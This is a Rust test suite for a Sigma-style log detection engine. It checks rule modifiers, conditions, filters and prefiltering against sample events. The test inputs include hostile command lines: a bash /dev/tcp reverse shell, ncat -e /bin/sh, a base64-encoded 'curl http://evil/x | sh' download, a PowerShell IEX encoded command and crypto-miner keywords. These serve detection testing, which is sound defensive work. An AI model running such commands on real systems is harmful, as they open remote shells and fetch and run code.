//! Detection semantics: every modifier positive and negative, keywords,
//! nulls, conditions, filters, log source dispatch and the prefilter.

use sightline_detect::{CompileOptions, RuleSet, RuleSetBuilder};
use sightline_event::{Event, EventId, Timestamp, Value};

fn event(module: &'static str, dataset: &'static str, fields: &[(&'static str, Value)]) -> Event {
    let ts: Timestamp = "2026-11-22T12:37:31Z".parse().unwrap();
    let mut ev = Event::new(
        EventId::derive("t", 0, b"x"),
        ts,
        module,
        dataset,
        "raw line",
    );
    for (k, v) in fields {
        match *k {
            "message" => ev.message = v.to_string(),
            "event.original" => ev.original = v.to_string(),
            "event.action" => ev.action = Some(v.to_string()),
            "event.category" => {
                if let Value::List(l) = v {
                    ev.category = l.clone()
                }
            }
            _ => {
                ev.set(k, v.clone());
            }
        }
    }
    ev
}

fn s(x: &str) -> Value {
    Value::Str(x.to_owned())
}

/// A rule with one selection `sel` holding `body` (YAML lines indented 4), condition `sel`.
fn rule(body: &str) -> RuleSet {
    rule_cond(body, "sel")
}

fn rule_cond(body: &str, cond: &str) -> RuleSet {
    let text = format!(
        "title: t\nid: r1\nlogsource:\n  product: ray\ndetection:\n  sel:\n{body}\n  condition: {cond}\n"
    );
    RuleSet::from_texts([("t.yml", text.as_str())]).unwrap_or_else(|e| panic!("{e:?}\n{text}"))
}

fn hit(set: &RuleSet, fields: &[(&'static str, Value)]) -> bool {
    let ev = event("ray", "ray.dashboard", fields);
    let fast = !set.matching_rules(&ev).is_empty();
    // The dispatch/prefilter path must agree with plain evaluation.
    assert_eq!(
        fast,
        set.rule_matches_unfiltered(0, &ev),
        "prefilter disagrees"
    );
    fast
}

#[test]
fn plain_values_are_case_insensitive_and_exact() {
    let r = rule("    url.path: /api/Jobs/");
    assert!(hit(&r, &[("url.path", s("/API/jobs/"))]));
    assert!(!hit(&r, &[("url.path", s("/api/jobs/x"))]));
    assert!(!hit(&r, &[]));
}

#[test]
fn lists_or_maps_and() {
    let r = rule("    http.request.method: [POST, PUT]\n    url.path|startswith: /api/jobs");
    assert!(hit(
        &r,
        &[
            ("http.request.method", s("put")),
            ("url.path", s("/api/jobs/1"))
        ]
    ));
    assert!(!hit(
        &r,
        &[
            ("http.request.method", s("GET")),
            ("url.path", s("/api/jobs/1"))
        ]
    ));
    assert!(!hit(&r, &[("http.request.method", s("POST"))]));
}

#[test]
fn list_of_maps_is_or() {
    let r = rule("    - user.name: alice\n    - source.ip: 10.0.0.5");
    assert!(hit(&r, &[("user.name", s("alice"))]));
    assert!(hit(&r, &[("source.ip", s("10.0.0.5"))]));
    assert!(!hit(&r, &[("user.name", s("bob"))]));
}

#[test]
fn contains_startswith_endswith() {
    let c = rule("    process.command_line|contains: 'curl '");
    assert!(hit(
        &c,
        &[("process.command_line", s("sh -c CURL http://x | sh"))]
    ));
    assert!(!hit(&c, &[("process.command_line", s("wget http://x"))]));
    let sw = rule("    process.command_line|startswith: bash");
    assert!(hit(&sw, &[("process.command_line", s("bash -i"))]));
    assert!(!hit(&sw, &[("process.command_line", s("/bin/bash -i"))]));
    let ew = rule("    file.path|endswith: .pkl");
    assert!(hit(&ew, &[("file.path", s("/m/model.PKL"))]));
    assert!(!hit(&ew, &[("file.path", s("/m/model.pkl.bak"))]));
}

#[test]
fn all_modifier() {
    let r = rule("    process.command_line|contains|all: ['bash -i', '/dev/tcp/']");
    assert!(hit(
        &r,
        &[(
            "process.command_line",
            s("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
        )]
    ));
    assert!(!hit(&r, &[("process.command_line", s("bash -i"))]));
}

#[test]
fn wildcards_and_escapes() {
    let r = rule("    url.path: /api/*/stop");
    assert!(hit(&r, &[("url.path", s("/api/jobs/raysubmit_1/stop"))]));
    assert!(!hit(&r, &[("url.path", s("/api/jobs/stop/x"))]));
    let q = rule("    process.name: 'python?'");
    assert!(hit(&q, &[("process.name", s("python3"))]));
    assert!(!hit(&q, &[("process.name", s("python"))]));
    let esc = rule(r"    message: 'literal \*star'");
    assert!(hit(&esc, &[("message", s("literal *star"))]));
    assert!(!hit(&esc, &[("message", s("literal xstar"))]));
    let bs = rule(r"    file.path: 'C:\Windows\*'");
    // `\*` escapes the star: the value is the literal `C:\Windows*`.
    assert!(hit(&bs, &[("file.path", s(r"C:\Windows*"))]));
    assert!(!hit(&bs, &[("file.path", s(r"C:\Windows\x"))]));
    let star = rule(r"    file.path: 'C:\\Windows\\*'");
    assert!(hit(&star, &[("file.path", s(r"C:\Windows\system32"))]));
}

#[test]
fn cased() {
    let r = rule("    user.name|cased: Admin");
    assert!(hit(&r, &[("user.name", s("Admin"))]));
    assert!(!hit(&r, &[("user.name", s("admin"))]));
    let c = rule("    message|contains|cased: ERROR");
    assert!(hit(&c, &[("message", s("an ERROR here"))]));
    assert!(!hit(&c, &[("message", s("an error here"))]));
}

#[test]
fn regex_and_flags() {
    let r = rule("    process.command_line|re: 'nc(at)? -e /bin/(ba)?sh'");
    assert!(hit(&r, &[("process.command_line", s("ncat -e /bin/sh"))]));
    assert!(
        !hit(&r, &[("process.command_line", s("NC -e /bin/sh"))]),
        "re is case-sensitive"
    );
    let i = rule("    process.command_line|re|i: 'nc -e'");
    assert!(hit(&i, &[("process.command_line", s("NC -E /bin/sh"))]));
    let m = rule("    message|re|m: '^second$'");
    assert!(hit(&m, &[("message", s("first\nsecond\nthird"))]));
    let no_m = rule("    message|re: '^second$'");
    assert!(!hit(&no_m, &[("message", s("first\nsecond\nthird"))]));
    let sflag = rule("    message|re|s: 'a.b'");
    assert!(hit(&sflag, &[("message", s("a\nb"))]));
    let no_s = rule("    message|re: 'a.b'");
    assert!(!hit(&no_s, &[("message", s("a\nb"))]));
}

#[test]
fn cidr_v4_v6() {
    let r = rule("    source.ip|cidr: ['10.0.0.0/8', 'fd00::/8']");
    assert!(hit(&r, &[("source.ip", s("10.1.2.3"))]));
    assert!(hit(&r, &[("source.ip", s("fd12::1"))]));
    assert!(!hit(&r, &[("source.ip", s("11.0.0.1"))]));
    assert!(!hit(&r, &[("source.ip", s("not-an-ip"))]));
    assert!(!hit(&r, &[]));
}

#[test]
fn base64_and_offsets() {
    let r = rule("    process.command_line|base64|contains: '/bin/sh'");
    assert!(hit(
        &r,
        &[("process.command_line", s("echo L2Jpbi9zaA== | base64 -d"))]
    ));
    assert!(!hit(&r, &[("process.command_line", s("echo /bin/sh"))]));
    let o = rule("    process.command_line|base64offset|contains: 'curl http'");
    for prefix in ["", "x", "xy", "abc"] {
        let payload = format!("{prefix}curl http://evil/x | sh");
        let enc = base64_std(payload.as_bytes());
        assert!(
            hit(
                &o,
                &[(
                    "process.command_line",
                    s(&format!("echo {enc} | base64 -d | sh"))
                )]
            ),
            "{prefix}"
        );
    }
    assert!(!hit(
        &o,
        &[("process.command_line", s(&base64_std(b"wget http://x")))]
    ));
}

fn base64_std(b: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(b)
}

#[test]
fn utf16_wide_with_base64() {
    // PowerShell -EncodedCommand style: UTF-16LE then base64.
    let r = rule("    process.command_line|wide|base64offset|contains: 'IEX'");
    let mut utf16 = Vec::new();
    for u in "xxIEX (New-Object Net.WebClient)".encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    assert!(hit(
        &r,
        &[(
            "process.command_line",
            s(&format!("powershell -enc {}", base64_std(&utf16)))
        )]
    ));
    assert!(!hit(&r, &[("process.command_line", s("powershell IEX"))]));
    let le = rule("    message|utf16le|contains: 'ab'");
    assert!(hit(&le, &[("message", s("x a\0b\0 y"))]));
    let be = rule("    message|utf16be|contains: 'ab'");
    assert!(hit(&be, &[("message", s("\0a\0b"))]));
    assert!(!hit(&be, &[("message", s("ab"))]));
    let bom = rule("    message|utf16|base64: 'a'");
    assert!(hit(
        &bom,
        &[("message", s(&base64_std(&[0xff, 0xfe, b'a', 0])))]
    ));
}

#[test]
fn windash() {
    let r = rule("    process.command_line|windash|contains: ' -enc '");
    for v in [
        "p -enc x",
        "p /enc x",
        "p \u{2013}enc x",
        "p \u{2014}enc x",
        "p \u{2015}enc x",
    ] {
        assert!(hit(&r, &[("process.command_line", s(v))]), "{v}");
    }
    assert!(!hit(&r, &[("process.command_line", s("p +enc x"))]));
}

#[test]
fn exists_and_null() {
    let e = rule("    user.name|exists: true");
    assert!(hit(&e, &[("user.name", s(""))]));
    assert!(!hit(&e, &[]));
    let ne = rule("    user.name|exists: false");
    assert!(hit(&ne, &[]));
    assert!(!hit(&ne, &[("user.name", s("x"))]));
    let n = rule("    user.name: null");
    assert!(hit(&n, &[]));
    assert!(!hit(&n, &[("user.name", s("x"))]));
    let empty = rule("    user.name: ''");
    assert!(hit(&empty, &[("user.name", s(""))]));
    assert!(!hit(&empty, &[]));
}

#[test]
fn numbers_and_comparisons() {
    let eq = rule("    http.response.status_code: 401");
    assert!(hit(&eq, &[("http.response.status_code", Value::Int(401))]));
    assert!(hit(&eq, &[("http.response.status_code", s("401"))]));
    assert!(!hit(&eq, &[("http.response.status_code", Value::Int(403))]));
    let gt = rule("    milvus.topk|gt: 1000");
    assert!(hit(&gt, &[("milvus.topk", Value::Int(16384))]));
    assert!(!hit(&gt, &[("milvus.topk", Value::Int(1000))]));
    assert!(hit(&gt, &[("milvus.topk", s("2000"))]));
    assert!(!hit(&gt, &[("milvus.topk", s("many"))]));
    let gte = rule("    milvus.topk|gte: 1000");
    assert!(hit(&gte, &[("milvus.topk", Value::Int(1000))]));
    let lt = rule("    mlx.latency_ms|lt: 1.5");
    assert!(hit(&lt, &[("mlx.latency_ms", Value::Float(1.2))]));
    assert!(!hit(&lt, &[("mlx.latency_ms", Value::Float(1.5))]));
    let lte = rule("    mlx.latency_ms|lte: 1.5");
    assert!(hit(&lte, &[("mlx.latency_ms", Value::Float(1.5))]));
    let b = rule("    mlx.model.pickle_allowed: true");
    assert!(hit(&b, &[("mlx.model.pickle_allowed", Value::Bool(true))]));
    assert!(hit(&b, &[("mlx.model.pickle_allowed", s("True"))]));
    assert!(!hit(
        &b,
        &[("mlx.model.pickle_allowed", Value::Bool(false))]
    ));
}

#[test]
fn neq() {
    let r = rule("    user.name|neq: admin");
    assert!(hit(&r, &[("user.name", s("bob"))]));
    assert!(!hit(&r, &[("user.name", s("ADMIN"))]));
    assert!(!hit(&r, &[]), "absent is not different");
    let n = rule("    http.response.status_code|neq: 200");
    assert!(hit(&n, &[("http.response.status_code", Value::Int(500))]));
    assert!(!hit(&n, &[("http.response.status_code", Value::Int(200))]));
}

#[test]
fn fieldref() {
    let r = rule("    user.name|fieldref: user.target.name");
    assert!(hit(
        &r,
        &[("user.name", s("Bob")), ("user.target.name", s("bob"))]
    ));
    assert!(!hit(
        &r,
        &[("user.name", s("alice")), ("user.target.name", s("bob"))]
    ));
    assert!(!hit(&r, &[("user.name", s("alice"))]));
    let n = rule("    user.name|fieldref|neq: user.target.name");
    assert!(hit(
        &n,
        &[("user.name", s("alice")), ("user.target.name", s("bob"))]
    ));
    assert!(!hit(
        &n,
        &[("user.name", s("bob")), ("user.target.name", s("bob"))]
    ));
    let sw = rule("    url.path|fieldref|startswith: url.original");
    assert!(hit(
        &sw,
        &[("url.path", s("/a/b")), ("url.original", s("/a"))]
    ));
}

#[test]
fn time_parts() {
    // The event time is 12:37:31 UTC on 2026-11-22.
    assert!(hit(&rule("    '@timestamp|hour': 12"), &[]));
    assert!(!hit(&rule("    '@timestamp|hour': 3"), &[]));
    assert!(hit(&rule("    '@timestamp|minute|gte': 30"), &[]));
    assert!(hit(&rule("    '@timestamp|month': 11"), &[]));
    assert!(hit(&rule("    '@timestamp|year': 2026"), &[]));
    assert!(hit(&rule("    '@timestamp|day': 22"), &[]));
    // Comparisons with a time value compare times.
    assert!(hit(
        &rule("    '@timestamp|gte': '2026-11-22T12:00:00Z'"),
        &[]
    ));
    assert!(!hit(
        &rule("    '@timestamp|gt': '2026-11-22T12:37:31Z'"),
        &[]
    ));
    assert!(hit(
        &rule("    '@timestamp|lt': '2026-11-22 13:00:00'"),
        &[]
    ));
    let seen = rule("    event.created|lt: '2026-01-01T00:00:00Z'");
    assert!(hit(
        &seen,
        &[("event.created", s("2025-12-31T23:59:59.5Z"))]
    ));
    assert!(!hit(&seen, &[("event.created", s("2026-01-01T00:00:00Z"))]));
    assert!(!hit(&seen, &[("event.created", s("yesterday"))]));
}

#[test]
fn expand_placeholders() {
    let mut opts = CompileOptions::default();
    opts.placeholders
        .insert("Admins".into(), vec!["root".into(), "adm_*".into()]);
    let mut b = RuleSetBuilder::new().with_options(opts);
    b.add_text(
        "t.yml",
        "title: t\nlogsource: {product: ray}\ndetection:\n  sel:\n    user.name|expand: '%Admins%'\n  condition: sel\n",
    );
    let (set, errors) = b.build();
    assert!(errors.is_empty(), "{errors:?}");
    assert!(hit(&set, &[("user.name", s("root"))]));
    assert!(hit(&set, &[("user.name", s("adm_joe"))]));
    assert!(!hit(&set, &[("user.name", s("joe"))]));
    // Without a value for the placeholder the rule is rejected.
    let (_, errors) = RuleSetBuilder::new()
        .add_text("t.yml", "title: t\nlogsource: {product: ray}\ndetection:\n  sel:\n    user.name|expand: '%Admins%'\n  condition: sel\n")
        .build_ref();
    assert!(errors[0].message.contains("Admins"), "{errors:?}");
}

trait BuildRef {
    fn build_ref(&mut self) -> (RuleSet, Vec<sightline_detect::RuleError>);
}
impl BuildRef for RuleSetBuilder {
    fn build_ref(&mut self) -> (RuleSet, Vec<sightline_detect::RuleError>) {
        std::mem::take(self).build()
    }
}

#[test]
fn keywords_search_message_and_original() {
    let set = RuleSet::from_texts([(
        "k.yml",
        "title: k\nlogsource: {product: ray}\ndetection:\n  kw:\n    - xmrig\n    - 'stratum+tcp'\n  condition: kw\n",
    )])
    .unwrap();
    assert!(hit(&set, &[("message", s("started XMRig 6.2"))]));
    assert!(hit(
        &set,
        &[("event.original", s("pool stratum+tcp://p:3333"))]
    ));
    assert!(!hit(&set, &[("message", s("nothing"))]));
    let all = RuleSet::from_texts([(
        "k.yml",
        "title: k\nlogsource: {product: ray}\ndetection:\n  kw:\n    '|all':\n      - 'curl'\n      - '| sh'\n  condition: kw\n",
    )])
    .unwrap();
    assert!(hit(&all, &[("message", s("curl http://x | sh"))]));
    assert!(!hit(&all, &[("message", s("curl http://x"))]));
}

#[test]
fn multi_valued_fields_match_any_element() {
    let r = rule("    user.roles: admin");
    assert!(hit(
        &r,
        &[(
            "user.roles",
            Value::List(vec!["reader".into(), "Admin".into()])
        )]
    ));
    assert!(!hit(
        &r,
        &[("user.roles", Value::List(vec!["reader".into()]))]
    ));
    let c = rule("    event.category: authentication");
    assert!(hit(
        &c,
        &[(
            "event.category",
            Value::List(vec!["web".into(), "authentication".into()])
        )]
    ));
}

#[test]
fn conditions_with_quantifiers_and_precedence() {
    let text = "title: t\nlogsource: {product: ray}\ndetection:\n  sel_a: {user.name: a}\n  sel_b: {source.ip: 1.1.1.1}\n  filter_x: {url.path: /ok}\n  _aux: {message: aux}\n  condition: CONDITION\n";
    let with = |cond: &str| {
        RuleSet::from_texts([("t.yml", text.replace("CONDITION", cond).as_str())]).unwrap()
    };
    let a = ("user.name", s("a"));
    let b = ("source.ip", s("1.1.1.1"));
    let x = ("url.path", s("/ok"));
    let aux = ("message", s("aux"));
    let one = with("1 of sel_* and not 1 of filter_*");
    assert!(hit(&one, std::slice::from_ref(&a)));
    assert!(!hit(&one, &[a.clone(), x.clone()]));
    let all = with("all of sel_*");
    assert!(!hit(&all, std::slice::from_ref(&a)));
    assert!(hit(&all, &[a.clone(), b.clone()]));
    // `them` skips identifiers starting with an underscore.
    let them = with("all of them");
    assert!(hit(&them, &[a.clone(), b.clone(), x.clone()]));
    let one_them = with("1 of them");
    assert!(!hit(&one_them, std::slice::from_ref(&aux)));
    // not > and > or: `a or b and not x` = a or (b and not x)
    let prec = with("sel_a or sel_b and not filter_x");
    assert!(hit(&prec, &[a.clone(), x.clone()]));
    assert!(!hit(&prec, &[b.clone(), x.clone()]));
    assert!(hit(&prec, std::slice::from_ref(&b)));
    let paren = with("(sel_a or sel_b) and not filter_x");
    assert!(!hit(&paren, &[a.clone(), x.clone()]));
    // A list of conditions is OR-ed.
    let list = RuleSet::from_texts([(
        "t.yml",
        text.replace(
            "  condition: CONDITION\n",
            "  condition:\n    - sel_a\n    - sel_b\n",
        )
        .as_str(),
    )])
    .unwrap();
    assert!(hit(&list, std::slice::from_ref(&b)));
    // Unknown identifiers are compile errors with the line.
    let e =
        RuleSet::from_texts([("t.yml", text.replace("CONDITION", "sel_c").as_str())]).unwrap_err();
    assert_eq!(e[0].location.line, 8);
    assert!(
        e[0].message.contains("unknown search identifier `sel_c`"),
        "{}",
        e[0]
    );
    let e = RuleSet::from_texts([("t.yml", text.replace("CONDITION", "1 of nope*").as_str())])
        .unwrap_err();
    assert!(e[0].message.contains("matches no search identifier"));
}

#[test]
fn logsource_dispatch() {
    let set = RuleSet::from_texts([(
        "t.yml",
        "title: d\nlogsource: {product: ray, service: dashboard}\ndetection:\n  sel: {user.name: a}\n  condition: sel\n\
---\ntitle: m\nlogsource: {product: milvus}\ndetection:\n  sel: {user.name: a}\n  condition: sel\n\
---\ntitle: c\nlogsource: {category: authentication}\ndetection:\n  sel: {user.name: a}\n  condition: sel\n",
    )])
    .unwrap();
    let f = [("user.name", s("a"))];
    assert_eq!(
        set.matching_rules(&event("ray", "ray.dashboard", &f)),
        vec![0]
    );
    assert_eq!(
        set.matching_rules(&event("ray", "ray.raylet", &f)),
        Vec::<usize>::new()
    );
    assert_eq!(
        set.matching_rules(&event("milvus", "milvus.proxy", &f)),
        vec![1]
    );
    let mut auth = f.to_vec();
    auth.push(("event.category", Value::List(vec!["authentication".into()])));
    assert_eq!(
        set.matching_rules(&event("mesos", "mesos.master", &auth)),
        vec![2]
    );
}

#[test]
fn filters_and_onto_their_rules() {
    let set = RuleSet::from_texts([(
        "t.yml",
        "title: r\nid: rule-1\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: authentication-failed}\n  condition: sel\n\
---\ntitle: other\nid: rule-2\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: authentication-failed}\n  condition: sel\n\
---\ntitle: internal scanners\nlogsource: {product: ray}\nfilter:\n  rules: [rule-1]\n  scanner: {source.ip|cidr: 10.9.0.0/16}\n  condition: not scanner\n",
    )])
    .unwrap();
    let f = |ip: &str| {
        event(
            "ray",
            "ray.dashboard",
            &[
                ("event.action", s("authentication-failed")),
                ("source.ip", s(ip)),
            ],
        )
    };
    assert_eq!(set.matching_rules(&f("1.2.3.4")), vec![0, 1]);
    assert_eq!(set.matching_rules(&f("10.9.3.4")), vec![1]);
    assert_eq!(set.stats.filters_applied, 1);
    // `rules: any` applies to every covered rule; a filter for another product to none.
    let any = RuleSet::from_texts([(
        "t.yml",
        "title: r\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: x}\n  condition: sel\n\
---\ntitle: f\nlogsource: {product: ray}\nfilter:\n  rules: any\n  sel: {user.name: svc}\n  condition: not sel\n\
---\ntitle: g\nlogsource: {product: milvus}\nfilter:\n  rules: any\n  sel: {user.name: other}\n  condition: not sel\n",
    )])
    .unwrap();
    let g = |u: &str| {
        event(
            "ray",
            "ray.dashboard",
            &[("event.action", s("x")), ("user.name", s(u))],
        )
    };
    assert_eq!(any.matching_rules(&g("svc")), Vec::<usize>::new());
    assert_eq!(any.matching_rules(&g("other")), vec![0]);
}

#[test]
fn explanation_names_selection_and_values() {
    let set = rule_cond(
        "    process.command_line|contains: '/dev/tcp/'\n  filter:\n    user.name: ops",
        "sel and not filter",
    );
    let ev = event(
        "ray",
        "ray.job",
        &[(
            "process.command_line",
            s("bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        )],
    );
    let ex = set.explain(0, &ev);
    assert_eq!(ex.matched, vec!["sel"]);
    assert_eq!(
        ex.fields,
        vec![(
            "process.command_line".to_string(),
            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1".to_string()
        )]
    );
}

#[test]
fn compile_errors_say_what_to_fix() {
    let bad = [
        ("    source.ip|cidr: 10.0.0.0/33", "not a CIDR"),
        ("    a|re: '(unclosed'", "invalid regular expression"),
        ("    a|gt: many", "needs a number"),
        ("    a|exists: maybe", "true` or `false"),
        ("    a|base64|contains: 'x*y'", "cannot encode wildcards"),
    ];
    for (body, want) in bad {
        let text = format!(
            "title: t\nlogsource:\n  product: ray\ndetection:\n  sel:\n{body}\n  condition: sel\n"
        );
        let e = RuleSet::from_texts([("t.yml", text.as_str())]).unwrap_err();
        assert!(e[0].message.contains(want), "{body}: {}", e[0]);
        assert_eq!(e[0].location.line, 6, "{body}");
    }
}

#[test]
fn duplicate_ids_are_rejected() {
    let e = RuleSet::from_texts([(
        "t.yml",
        "title: a\nid: x\nlogsource: {}\ndetection: {s: {a: 1}, condition: s}\n---\ntitle: b\nid: x\nlogsource: {}\ndetection: {s: {a: 1}, condition: s}\n",
    )])
    .unwrap_err();
    assert!(e[0].message.contains("already used"));
}

#[test]
fn prefilter_gates_and_counts() {
    let mut text = String::new();
    for i in 0..50 {
        text.push_str(&format!(
            "---\ntitle: r{i}\nlogsource: {{product: ray}}\ndetection:\n  sel: {{process.command_line|contains: 'needle{i:03}x'}}\n  condition: sel\n"
        ));
    }
    text.push_str("---\ntitle: neg\nlogsource: {product: ray}\ndetection:\n  sel: {user.name: a}\n  condition: not sel\n");
    let set = RuleSet::from_texts([("t.yml", text.as_str())]).unwrap();
    assert_eq!(set.stats.ungated_rules, 1);
    assert_eq!(set.stats.prefilter_literals, 50);
    let ev = event(
        "ray",
        "ray.job",
        &[
            ("process.command_line", s("xx NEEDLE017X yy")),
            ("user.name", s("b")),
        ],
    );
    assert_eq!(set.matching_rules(&ev), vec![17, 50]);
}

#[test]
fn unknown_fields_are_warnings_with_lines() {
    let set = RuleSet::from_texts([(
        "w.yml",
        "title: w\nlogsource: {product: ray}\ndetection:\n  sel:\n    CommandLine|contains: x\n    labels.team: a\n    ray.job.anything: b\n  condition: sel\n",
    )])
    .unwrap();
    assert_eq!(set.warnings.len(), 1, "{:?}", set.warnings);
    assert_eq!(set.warnings[0].location.line, 5);
    assert!(set.warnings[0].message.contains("`CommandLine`"));
}
